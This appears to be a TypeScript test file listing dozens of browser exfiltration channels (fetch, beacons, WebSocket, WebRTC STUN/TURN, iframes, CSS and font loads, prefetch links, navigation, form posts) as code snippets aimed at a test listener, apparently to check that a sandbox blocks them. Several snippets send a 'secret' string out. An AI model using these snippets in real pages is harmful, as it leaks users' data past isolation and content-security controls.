/** Where attempts go to: listeners of the test. */
export type Target = { readonly host: string; readonly tcp: number; readonly udp: number };

/** A way by which something could leave, as code; its name is asked for as a path, so that what arrives tells its way. */
export type Attempt = { readonly name: string; readonly code: (to: Target, url: string) => string };

const attempt = (name: string, code: (url: string, to: Target) => string): Attempt => ({
  name,
  code: (to) => code(`http://${to.host}:${to.tcp}/${name}`, to),
});

const element = (tag: string, more: string) =>
  `const e = document.createElement('${tag}'); ${more}; document.body.append(e);`;

const link = (rel: string, url: string, more = '') =>
  element('link', `e.rel = '${rel}'; e.href = '${url}'; ${more}`);

/** What every kind of script can try. */
const ANYWHERE: readonly Attempt[] = [
  attempt('fetch', (url) => `fetch('${url}?secret')`),
  attempt('fetch-no-cors', (url) => `fetch('${url}', { method: 'POST', body: 'secret', mode: 'no-cors' })`),
  attempt(
    'fetch-keepalive',
    (url) => `fetch('${url}', { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true })`,
  ),
  attempt('websocket', (url) => `new WebSocket('${url.replace('http', 'ws')}')`),
  attempt('import', (url) => `import('${url}')`),
  attempt(
    'cache',
    (url) => `caches.open('x').then((cache) => cache.add(new Request('${url}', { mode: 'no-cors' })))`,
  ),
  attempt('eval', (url) => `(0, eval)("fetch('${url}', { mode: 'no-cors' })")`),
  attempt('function', (url) => `new Function("fetch('${url}', { mode: 'no-cors' })")()`),
];

/** What a page and a dedicated worker can try. */
const IN_PAGE_AND_WORKER: readonly Attempt[] = [
  attempt('xhr', (url) => `const x = new XMLHttpRequest(); x.open('POST', '${url}'); x.send('secret')`),
  attempt('eventsource', (url) => `new EventSource('${url}')`),
  attempt('webtransport', (_, { host, udp }) => `new WebTransport('https://${host}:${udp}/webtransport')`),
  attempt('worker', (url) => `new Worker('${url}')`),
  attempt(
    'blob-worker',
    (url) => `new Worker(URL.createObjectURL(new Blob(["fetch('${url}', { mode: 'no-cors' })"])))`,
  ),
  attempt('data-worker', (url) => `new Worker("data:text/javascript,fetch('${url}', { mode: 'no-cors' })")`),
];

export const IN_WORKER: readonly Attempt[] = [
  ...ANYWHERE,
  ...IN_PAGE_AND_WORKER,
  attempt('import-scripts', (url) => `importScripts('${url}')`),
  attempt('font-worker', (url) => `new FontFace('x', "url('${url}')").load()`),
];

export const IN_SERVICE_WORKER: readonly Attempt[] = [
  ...ANYWHERE,
  attempt('open-window', (url) => `clients.openWindow('${url}')`),
  attempt(
    'navigate-client',
    (url) => `clients.matchAll().then((all) => all.map((each) => each.navigate('${url}')))`,
  ),
  attempt('background-fetch', (url) => `registration.backgroundFetch.fetch('x', '${url}')`),
  attempt('notification', (url) => `registration.showNotification('x', { icon: '${url}' })`),
];

const rtc = (server: string) =>
  `const c = new RTCPeerConnection({ iceServers: [${server}] }); c.createDataChannel('x');
   c.createOffer().then((offer) => c.setLocalDescription(offer));`;

/** What leaves the page where it is. */
export const IN_PAGE: readonly Attempt[] = [
  ...ANYWHERE,
  ...IN_PAGE_AND_WORKER,
  attempt('shared-worker', (url) => `new SharedWorker('${url}')`),
  attempt('service-worker', (url) => `navigator.serviceWorker.register('${url}')`),
  attempt('beacon', (url) => `navigator.sendBeacon('${url}', 'secret')`),
  attempt('fetch-later', (url) => `fetchLater('${url}', { activateAfter: 0 })`),
  attempt('image', (url) => `new Image().src = '${url}?secret'`),
  attempt('picture', (url) => element('img', `e.srcset = '${url} 1x'`)),
  attempt('svg-image', (url) => {
    const svg = `document.createElementNS('http://www.w3.org/2000/svg', 'image')`;
    return `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = ${svg};
      i.setAttribute('href', '${url}'); s.append(i); document.body.append(s);`;
  }),
  attempt('stylesheet', (url) => link('stylesheet', url)),
  attempt('background', (url) => `document.body.style.backgroundImage = "url('${url}')"`),
  attempt('constructed-style', (url) => {
    const rule = `body { list-style: url('${url}'); border-image: url('${url}') }`;
    return `const s = new CSSStyleSheet(); s.replaceSync(${JSON.stringify(rule)}); document.adoptedStyleSheets = [s];`;
  }),
  attempt('font', (url) => `new FontFace('x', "url('${url}')").load()`),
  attempt('script', (url) => element('script', `e.src = '${url}'`)),
  attempt('frame', (url) => element('iframe', `e.src = '${url}'`)),
  attempt('frame-text', (url) => element('iframe', `e.srcdoc = "<img src='${url}'>"`)),
  attempt(
    'blank-frame',
    (url) => `${element('iframe', '')} e.contentWindow.fetch('${url}', { mode: 'no-cors' })`,
  ),
  attempt('fenced-frame', (url) => element('fencedframe', `e.config = new FencedFrameConfig('${url}')`)),
  attempt('object', (url) => element('object', `e.data = '${url}'`)),
  attempt('embed', (url) => element('embed', `e.src = '${url}'`)),
  attempt('video', (url) => element('video', `e.src = '${url}'; e.poster = '${url}'`)),
  attempt('audio', (url) => `new Audio('${url}').load()`),
  attempt('track', (url) => {
    const track = `const t = document.createElement('track'); t.default = true; t.src = '${url}'; e.append(t)`;
    return element('video', track);
  }),
  ...[
    'prefetch',
    'preload',
    'modulepreload',
    'preconnect',
    'prerender',
    'icon',
    'manifest',
    'dns-prefetch',
  ].map((rel) => attempt(`link-${rel}`, (url) => link(rel, url, `e.as = 'script'`))),
  attempt('speculation', (url) =>
    element(
      'script',
      `e.type = 'speculationrules'; e.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${url}'] }], prerender: [{ source: 'list', urls: ['${url}'] }] })`,
    ),
  ),
  attempt('stun', (_, { host, udp }) => rtc(`{ urls: 'stun:${host}:${udp}' }`)),
  attempt('turn', (_, { host, tcp }) =>
    rtc(`{ urls: 'turn:${host}:${tcp}?transport=tcp', username: 'a', credential: 'b' }`),
  ),
  attempt(
    'frame-stun',
    (_, { host, udp }) =>
      `${element('iframe', '')} const R = e.contentWindow.RTCPeerConnection; ${rtc(`{ urls: 'stun:${host}:${udp}' }`).replace('new RTCPeerConnection', 'new R')}`,
  ),
  attempt(
    'identity',
    (url) =>
      `navigator.credentials.get({ identity: { providers: [{ configURL: '${url}', clientId: 'x' }] } })`,
  ),
  attempt('passkey', (url) => {
    const wish = `{ challenge: new Uint8Array(8), rpId: '${new URL(url).hostname}' }`;
    return `navigator.credentials.get({ publicKey: ${wish} })`;
  }),
  attempt('payment', (url) => {
    const total = `{ total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }`;
    return `new PaymentRequest([{ supportedMethods: '${url}' }], ${total}).canMakePayment()`;
  }),
  attempt(
    'media-session',
    (url) => `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: '${url}' }] })`,
  ),
  attempt(
    'join-ads',
    (url) => `navigator.joinAdInterestGroup({ owner: '${new URL(url).origin}', name: 'x' }, 60)`,
  ),
];

const anchor = (url: string, more = '') => `${element('a', `e.href = '${url}?secret'; ${more}`)} e.click()`;

/** What would leave the page. Each needs one of its own. */
export const LEAVING: readonly Attempt[] = [
  attempt('location', (url) => `location = '${url}?secret'`),
  attempt('location-replace', (url) => `location.replace('${url}')`),
  attempt('navigation', (url) => `navigation.navigate('${url}')`),
  attempt('anchor', (url) => anchor(url)),
  attempt('anchor-blank', (url) => anchor(url, `e.target = '_blank'`)),
  attempt('anchor-ping', (url) => anchor('#here', `e.ping = '${url}'`).replace('#here?secret', '#here')),
  attempt('anchor-download', (url) => anchor(url, `e.download = 'x'`)),
  attempt('window-open', (url) => `open('${url}?secret')`),
  attempt('window-open-noopener', (url) => `open('${url}', '_blank', 'noopener')`),
  attempt('blank-window', (url) => `open('about:blank').location = '${url}'`),
  attempt('form', (url) => `${element('form', `e.action = '${url}'; e.method = 'POST'`)} e.submit()`),
  attempt('form-blank', (url) => `${element('form', `e.action = '${url}'; e.target = '_blank'`)} e.submit()`),
  attempt('refresh', (url) => `${element('meta', `e.httpEquiv = 'refresh'; e.content = '0; url=${url}'`)}`),
];
